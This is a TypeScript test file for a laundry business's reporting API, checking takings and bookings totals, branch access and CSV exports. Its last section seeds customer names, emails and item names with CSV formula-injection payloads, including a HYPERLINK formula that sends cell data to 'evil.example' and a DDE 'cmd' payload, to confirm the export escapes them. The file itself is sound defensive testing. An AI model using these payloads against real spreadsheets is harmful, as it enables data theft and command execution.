/**
 * The reports against the database's own sums on generated data (3,000 bookings over 40 days),
 * their CSV downloads read back with a CSV parser, and who sees which branch.
 */
import { parse } from 'csv-parse/sync';
import { eq, sql } from 'drizzle-orm';
import { todayInAccra } from '@laundry-accra/domain/dates';
import { fromPesewas } from '@laundry-accra/domain/money';
import { bookingItems, bookings, partialRefunds, paymentTransactions } from '../../db/schema';
import { buildTestApp, call, createCustomer, type TestContext } from '../../../test/helper';
import { createCheckedOutBooking } from '../../../test/fixtures';
import { branchIds, createBookingAt, createStaff } from '../../../test/staff';
import { generateReportData } from './report-data';
import { toCsv } from './reports.csv';

let ctx: TestContext;
let admin: Awaited<ReturnType<typeof createStaff>>;
let staff: Awaited<ReturnType<typeof createStaff>>;
let here: string;
let there: string;

const FROM = '2025-05-22';
const TO = '2025-06-30';

beforeAll(async () => {
  ctx = await buildTestApp();
  [here, there] = await branchIds(ctx);
  admin = await createStaff(ctx, 'admin', null);
  staff = await createStaff(ctx, 'staff', here);
  await generateReportData(ctx.database.db, {
    tag: 'test',
    bookings: 3_000,
    customers: 300,
    days: 45,
    until: new Date('2025-07-01T00:00:00Z'),
  });
}, 120_000);
afterAll(() => ctx.close());

const rowsOf = <T>(result: unknown): T[] =>
  Array.isArray(result) ? (result as T[]) : (result as { rows: T[] }).rows;

/** The database's own sum of the money taken in the range, by method (pesewas). */
async function takenByMethod(branchId?: string): Promise<Record<string, number>> {
  const result = await ctx.database.db.execute(sql`
    select t.method, sum(t.amount_pesewas)::bigint as pesewas
    from payment_transactions t left join bookings b on b.id = t.booking_id
    where t.payment_status in ('paid', 'refunded', 'refund_failed', 'refund_due')
      and (coalesce(t.received_at, t.paid_at) at time zone 'Africa/Accra')::date between ${FROM}::date and ${TO}::date
      and (${branchId ?? null}::uuid is null or b.branch_id = ${branchId ?? null}::uuid)
    group by t.method`);
  return Object.fromEntries(rowsOf<{ method: string; pesewas: string }>(result).map((r) => [r.method, Number(r.pesewas)]));
}

const report = (name: string, query: string, token = admin.token, headers?: Record<string, string>) =>
  call(ctx.app, 'GET', `/api/ops/reports/${name}${query}`, { token, headers });

describe('takings', () => {
  it.each(['day', 'week', 'month'])('sums per %s equal the database sum, by method, with refunds and net', async (group) => {
    const { status, json } = await report('takings/', `?from=${FROM}&to=${TO}&group=${group}`);
    expect(status).toBe(200);
    const direct = await takenByMethod();
    for (const method of ['online', 'cash', 'mobile_money', 'card_terminal'] as const) {
      expect({ method, total: json.totals[method] }).toEqual({ method, total: fromPesewas(direct[method] ?? 0) });
    }
    const [refunds] = rowsOf<{ pesewas: string }>(
      await ctx.database.db.execute(sql`
        select coalesce(sum(amount_pesewas), 0)::bigint as pesewas from payment_transactions
        where payment_status = 'refunded'
          and (refunded_at at time zone 'Africa/Accra')::date between ${FROM}::date and ${TO}::date`),
    );
    expect(json.totals.refunds).toBe(fromPesewas(Number(refunds.pesewas)));
    const taken = Object.values(direct).reduce((a, b) => a + b, 0);
    expect(json.totals.net).toBe(fromPesewas(taken - Number(refunds.pesewas)));
    if (group === 'day') {
      expect(json.rows).toHaveLength(40);
      expect(json.rows[0].period).toBe(FROM);
    }
  });

  it('mobile money per network and orders paid in parts equal the database sums, for every branch and one', async () => {
    const byNetwork = async (branchId?: string) =>
      Object.fromEntries(
        rowsOf<{ network: string; pesewas: string }>(
          await ctx.database.db.execute(sql`
            select coalesce(t.mobile_money_network, 'none') as network, sum(t.amount_pesewas)::bigint as pesewas
            from payment_transactions t left join bookings b on b.id = t.booking_id
            where t.method = 'mobile_money' and t.payment_status in ('paid', 'refunded', 'refund_failed', 'refund_due')
              and (coalesce(t.received_at, t.paid_at) at time zone 'Africa/Accra')::date between ${FROM}::date and ${TO}::date
              and (${branchId ?? null}::uuid is null or b.branch_id = ${branchId ?? null}::uuid)
            group by 1`),
        ).map((r) => [r.network, fromPesewas(Number(r.pesewas))]),
      );
    // The generated data has all three networks, older payments with none, and orders paid in two parts.
    const [parts] = rowsOf<{ n: number }>(
      await ctx.database.db.execute(sql`
        select count(*)::int as n from (select booking_id from payment_transactions where payment_status = 'paid'
        group by booking_id having count(*) > 1) p`),
    );
    expect(parts.n).toBeGreaterThan(0);
    for (const [branchId, query] of [[undefined, ''], [here, `&branch=${here}`]] as const) {
      const { json } = await report('takings/', `?from=${FROM}&to=${TO}&group=week${query}`);
      const direct = await byNetwork(branchId);
      expect(Object.keys(direct).sort()).toEqual(['airteltigo', 'mtn', 'none', 'telecel']);
      expect([json.totals.mobile_money_mtn, json.totals.mobile_money_telecel, json.totals.mobile_money_airteltigo]).toEqual([
        direct.mtn,
        direct.telecel,
        direct.airteltigo,
      ]);
      expect(json.totals.mobile_money).toBe(fromPesewas((await takenByMethod(branchId)).mobile_money ?? 0));
    }
  });

  it('one branch: its bookings only; staff get their own branch and 404 for the other', async () => {
    const mine = await report('takings/', `?from=${FROM}&to=${TO}`, staff.token);
    expect(mine.json.branch).toBe(here);
    const direct = await takenByMethod(here);
    expect(mine.json.totals.cash).toBe(fromPesewas(direct.cash ?? 0));
    expect((await report('takings/', `?from=${FROM}&to=${TO}&branch=${there}`, staff.token)).status).toBe(404);
    const theirs = await report('takings/', `?from=${FROM}&to=${TO}&branch=${there}`);
    expect(theirs.json.totals.cash).toBe(fromPesewas((await takenByMethod(there)).cash ?? 0));
  });

  it('checks its range', async () => {
    expect((await report('takings/', '?from=2025-06-02&to=2025-06-01')).json).toEqual({ to: ['Choose a day on or after the first day.'] });
    expect((await report('takings/', '?from=2020-01-01&to=2025-06-01')).status).toBe(400);
    expect((await report('takings/', '?to=2025-06-01')).status).toBe(400);
  });

  it("shows a counter payment in today's takings", async () => {
    const customer = await createCustomer(ctx);
    const booking = await createBookingAt(ctx, customer.user.id, here);
    const today = todayInAccra();
    const before = (await report('takings/', `?from=${today}&to=${today}`)).json.totals.cash;
    const paid = await call(ctx.app, 'POST', `/api/ops/bookings/${booking.id}/payments`, {
      token: staff.token,
      body: { method: 'cash', amount: booking.subTotal },
    });
    expect(paid.status).toBe(200);
    const after = (await report('takings/', `?from=${today}&to=${today}`)).json;
    expect(Number(after.totals.cash) - Number(before)).toBeCloseTo(Number(booking.subTotal), 2);
    expect(after.rows).toEqual([expect.objectContaining({ period: today, cash: after.totals.cash })]);
  });

  it('counts part of a payment given back after weighing as a refund, and a later refund of the rest only for the rest', async () => {
    const customer = await createCustomer(ctx);
    const booking = await createBookingAt(ctx, customer.user.id, here);
    const today = todayInAccra();
    const takings = async () => (await report('takings/', `?from=${today}&to=${today}&branch=${here}`)).json.totals;
    const before = await takings();
    const now = new Date();
    const [payment] = await ctx.database.db
      .insert(paymentTransactions)
      .values({ userId: customer.user.id, bookingId: booking.id, reference: `ADOM-REPORT-${booking.id.slice(0, 8)}`, amountPesewas: 10_000, paymentStatus: 'paid', paidAt: now })
      .returning();
    await ctx.database.db
      .insert(partialRefunds)
      .values({ paymentTransactionId: payment.id, bookingId: booking.id, amountPesewas: 1_500, status: 'refunded', refundedAt: now });
    const weighed = await takings();
    const delta = (after: Record<string, string>, key: string) => fromPesewas(Math.round((Number(after[key]) - Number(before[key])) * 100));
    expect([delta(weighed, 'online'), delta(weighed, 'refunds'), delta(weighed, 'net')]).toEqual(['100.00', '15.00', '85.00']);
    // Cancelled afterwards: the gateway gave back the other GHC 85.00, and the day nets to nothing.
    await ctx.database.db
      .update(paymentTransactions)
      .set({ paymentStatus: 'refunded', refundedAt: now })
      .where(eq(paymentTransactions.id, payment.id));
    const cancelled = await takings();
    expect([delta(cancelled, 'online'), delta(cancelled, 'refunds'), delta(cancelled, 'net')]).toEqual(['100.00', '100.00', '0.00']);
  });
});

describe('bookings report', () => {
  it('counts per status and branch, average order value and top items as the database does', async () => {
    const { status, json } = await report('bookings/', `?from=${FROM}&to=${TO}`);
    expect(status).toBe(200);
    const inRange = sql`(${bookings.createdAt} at time zone 'Africa/Accra')::date between ${FROM}::date and ${TO}::date`;
    const [direct] = await ctx.database.db
      .select({
        n: sql<number>`count(*)::int`,
        cancelled: sql<number>`(count(*) filter (where ${bookings.status} = 'cancelled'))::int`,
        avg: sql<string>`round(avg(${bookings.subTotal} + ${bookings.expressFee} + ${bookings.pickupFee}) filter (where ${bookings.status} <> 'cancelled'), 2)::text`,
      })
      .from(bookings)
      .where(inRange);
    expect(json.bookings).toBe(direct.n);
    expect(json.by_status.cancelled).toBe(direct.cancelled);
    expect(Object.values(json.by_status).reduce((a: number, b) => a + (b as number), 0)).toBe(direct.n);
    expect(json.average_order_value).toBe(direct.avg);
    expect(json.by_branch.reduce((a: number, b: { bookings: number }) => a + b.bookings, 0)).toBe(direct.n);

    const [top] = await ctx.database.db
      .select({ item: bookingItems.itemName, quantity: sql<number>`sum(${bookingItems.quantity})::int` })
      .from(bookingItems)
      .innerJoin(bookings, eq(bookings.id, bookingItems.bookingId))
      .where(sql`${inRange} and ${bookings.status} <> 'cancelled'`)
      .groupBy(bookingItems.itemName)
      .orderBy(sql`2 desc`, bookingItems.itemName)
      .limit(1);
    expect(json.top_items_by_quantity[0]).toMatchObject(top);
    expect(json.top_items_by_quantity).toHaveLength(10);
    expect(json.new_customers + json.returning_customers).toBeGreaterThan(0);
  });
});

describe('CSV', () => {
  const awkward = 'Kente, "Royal" cloth\nfolded';

  it('takings: the same numbers as the JSON, read back by a CSV parser', async () => {
    const query = `?from=${FROM}&to=${TO}&group=week`;
    const [json, csv, accepted] = await Promise.all([
      report('takings/', query),
      report('takings.csv', query),
      report('takings/', query, admin.token, { accept: 'text/csv' }),
    ]);
    expect(csv.response.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.response.headers['content-disposition']).toContain('attachment');
    expect(accepted.response.body).toBe(csv.response.body);
    const records = parse(csv.response.body, { columns: true }) as Record<string, string>[];
    expect(records.at(-1)).toEqual({ period: 'total', ...json.json.totals });
    expect(records.slice(0, -1).map((r) => r.period)).toEqual(json.json.rows.map((r: { period: string }) => r.period));
  });

  it('bookings report and orders: awkward names survive the round trip', async () => {
    const [category] = (await call(ctx.app, 'GET', '/api/ops/categories/', { token: admin.token })).json.results;
    const item = await call(ctx.app, 'POST', '/api/ops/items/', {
      token: admin.token,
      body: { name: awkward, category: category.id, price: '9999.00' },
    });
    expect(item.status).toBe(201);
    const customer = await createCustomer(ctx, { name: 'Mensah, Ama "Maa"' });
    const booking = await createCheckedOutBooking(ctx, customer.user.id);
    // Make the booking's first line the awkward item, worth the most of anything today.
    const [line] = await ctx.database.db.select().from(bookingItems).where(eq(bookingItems.bookingId, booking.id)).limit(1);
    await ctx.database.db
      .update(bookingItems)
      .set({ itemId: item.json.id, itemName: awkward, unitPrice: '9999.00', quantity: 1, total: '9999.00' })
      .where(eq(bookingItems.id, line.id));
    const today = todayInAccra();

    const csv = await report('bookings.csv', `?from=${today}&to=${today}`);
    const records = parse(csv.response.body, { columns: true }) as Record<string, string>[];
    expect(records).toContainEqual({ section: 'top_by_revenue', name: awkward, bookings: '', quantity: '1', amount: '9999.00', unit: 'piece' });

    const orders = await call(ctx.app, 'GET', `/api/ops/bookings.csv?search=${encodeURIComponent('Mensah, Ama')}`, { token: admin.token });
    expect(orders.status).toBe(200);
    const rows = parse(orders.response.body, { columns: true }) as Record<string, string>[];
    expect(rows).toEqual([
      expect.objectContaining({ customer: 'Mensah, Ama "Maa"', sub_total: booking.subTotal, express_fee: '0.00', pickup_fee: '0.00', total: booking.subTotal, amount_due: booking.subTotal, payment: 'Unpaid' }),
    ]);
    expect(rows[0].created_at).toMatch(/^\d{4}-\d{2}-\d{2}T/);
  });

  it('both CSVs say whether each booking is delivered or collected, in the words staff read (decision 072)', async () => {
    const customer = await createCustomer(ctx, { name: 'Efua Handover' });
    await createCheckedOutBooking(ctx, customer.user.id);
    const collected = await createCheckedOutBooking(ctx, customer.user.id);
    await ctx.database.db.update(bookings).set({ handover: 'collection', dropoffAddressId: null }).where(eq(bookings.id, collected.id));
    const today = todayInAccra();

    const orders = await call(ctx.app, 'GET', `/api/ops/bookings.csv?search=${encodeURIComponent('Efua Handover')}&ordering=order_number`, { token: admin.token });
    expect(orders.status).toBe(200);
    const rows = parse(orders.response.body, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row.handover)).toEqual(['Delivery', 'Collection at branch']);
    expect(Object.keys(rows[0]).at(-1)).toBe('handover');

    const json = await report('bookings/', `?from=${today}&to=${today}`);
    expect(json.json.by_handover.collection).toBeGreaterThanOrEqual(1);
    expect(json.json.by_handover.delivery).toBeGreaterThanOrEqual(1);
    const csv = await report('bookings.csv', `?from=${today}&to=${today}`);
    const records = parse(csv.response.body, { columns: true }) as Record<string, string>[];
    expect(records.filter((record) => record.section === 'handover')).toEqual([
      { section: 'handover', name: 'Delivery', bookings: String(json.json.by_handover.delivery), quantity: '', amount: '', unit: '' },
      { section: 'handover', name: 'Collection at branch', bookings: String(json.json.by_handover.collection), quantity: '', amount: '', unit: '' },
    ]);
  });

  /** Cells a spreadsheet would run as a formula, as OWASP lists their first characters. */
  const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+2', '\r=1+2'];

  it('orders: a name or email that would run as a formula comes back as text, figures as they are', async () => {
    // Accounts made before the email rule refused such addresses still hold them.
    const attacker = await createCustomer(ctx, { name: FORMULAS[0], email: '=HYPERLINK("http://evil.example/?"&A2)&@x.co' });
    const booking = await createCheckedOutBooking(ctx, attacker.user.id);
    for (const [i, formula] of FORMULAS.entries()) {
      const other = await createCustomer(ctx, { name: `${formula} ${i}` });
      await createCheckedOutBooking(ctx, other.user.id);
    }
    const orders = await call(ctx.app, 'GET', '/api/ops/bookings.csv', { token: admin.token });
    expect(orders.status).toBe(200);
    const rows = parse(orders.response.body, { columns: true }) as Record<string, string>[];
    const attackers = rows.filter((row) => row.email.includes('evil.example'));
    expect(attackers).toEqual([
      expect.objectContaining({ customer: `'${FORMULAS[0]}`, email: `'=HYPERLINK("http://evil.example/?"&A2)&@x.co`, total: booking.subTotal }),
    ]);
    for (const [i, formula] of FORMULAS.entries()) expect(rows.map((row) => row.customer)).toContain(`'${formula} ${i}`);
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r](?!\d+(\.\d+)?$)/);
    }
  });

  it('bookings report: an item name that would run as a formula comes back as text', async () => {
    const today = todayInAccra();
    const customer = await createCustomer(ctx);
    const booking = await createCheckedOutBooking(ctx, customer.user.id);
    const [line] = await ctx.database.db.select().from(bookingItems).where(eq(bookingItems.bookingId, booking.id)).limit(1);
    await ctx.database.db
      .update(bookingItems)
      .set({ itemName: FORMULAS[3], unitPrice: '9998.00', quantity: 1, total: '9998.00' })
      .where(eq(bookingItems.id, line.id));
    const csv = await report('bookings.csv', `?from=${today}&to=${today}`);
    const records = parse(csv.response.body, { columns: true }) as Record<string, string>[];
    expect(records).toContainEqual({ section: 'top_by_revenue', name: `'${FORMULAS[3]}`, bookings: '', quantity: '1', amount: '9998.00', unit: 'piece' });
    for (const record of records) for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('takings: every cell is a period or a figure, negative figures stay numbers', async () => {
    const csv = await report('takings.csv', `?from=${FROM}&to=${TO}&group=day`);
    const records = parse(csv.response.body, { columns: true }) as Record<string, string>[];
    for (const { period, ...figures } of records) {
      expect(period).toMatch(/^(\d{4}-\d{2}-\d{2}|total)$/);
      for (const figure of Object.values(figures)) expect(figure).toMatch(/^-?\d+\.\d{2}$/);
    }
    expect(toCsv(['net'], [['-25.00'], ['-2+3'], [-4]])).toBe("net\n-25.00\n'-2+3\n-4\n");
  });
});
